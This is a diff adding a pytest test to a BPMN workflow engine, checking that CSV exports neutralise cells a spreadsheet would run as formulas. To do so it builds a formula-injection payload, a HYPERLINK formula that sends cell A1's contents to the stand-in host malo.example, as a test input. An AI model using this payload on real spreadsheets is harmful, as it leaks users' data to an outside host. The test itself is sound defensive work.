@@ -4,13 +4,19 @@ from __future__ import annotations
 
 import csv
 import io
+import shutil
+from html import escape
+from pathlib import Path
 
+import pytest
 from lxml import etree
 
 from engine import Engine, ManualClock
 from engine.quality import compliance, export_csv, export_xes
 from engine.scenarios import load_scenarios, run_scenario
 from tests.conftest import BPMN, PROCESSES
+from tests.helpers import complete
+from tests.integration.test_script_incidents import SCRIPTS
 
 
 def _run(engine: Engine, clock: ManualClock, procedure: str) -> list[str]:
@@ -61,3 +67,27 @@ def test_compliance_counts_what_each_policy_asks(engine: Engine, clock: ManualCl
     assert figures["2"].total >= 1 and figures["2"].met == figures["2"].total
     assert figures["4"].total >= 1
     assert figures["1"].total >= 1
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(
+    engine: Engine, tmp_path: Path, lead: str
+) -> None:
+    """An element name from an analyst's diagram reaches the quality office's spreadsheet: a
+    leading =, +, -, @, tab or CR is prefixed with ' so it stays text."""
+    name = f'{lead}HYPERLINK("https://malo.example/?d="&A1,"Ver")'
+    attribute = escape(name, quote=True).replace("\t", "&#9;").replace("\r", "&#13;")
+    bpmn = tmp_path / "bpmn" / "SCRIPTS.bpmn"
+    bpmn.parent.mkdir()
+    bpmn.write_text(
+        SCRIPTS.read_text().replace('name="Repartir el presupuesto"', f'name="{attribute}"')
+    )
+    shutil.copytree(SCRIPTS.parent.parent / "forms", tmp_path / "forms")
+    engine.deploy([bpmn], "analista")
+    key = engine.start("SCRIPTS", "despacho", {})
+    complete(engine, key, "repartir", "despacho", {"partes": 4})
+    with engine.sessions() as session:
+        rows = list(csv.DictReader(io.StringIO(export_csv(session, "SCRIPTS"))))
+    names = {row["element_name"] for row in rows if row["element"] == "repartir"}
+    assert names == {"'" + name}
+    assert {row["case"] for row in rows} == {key}  # plain cells are left as they are
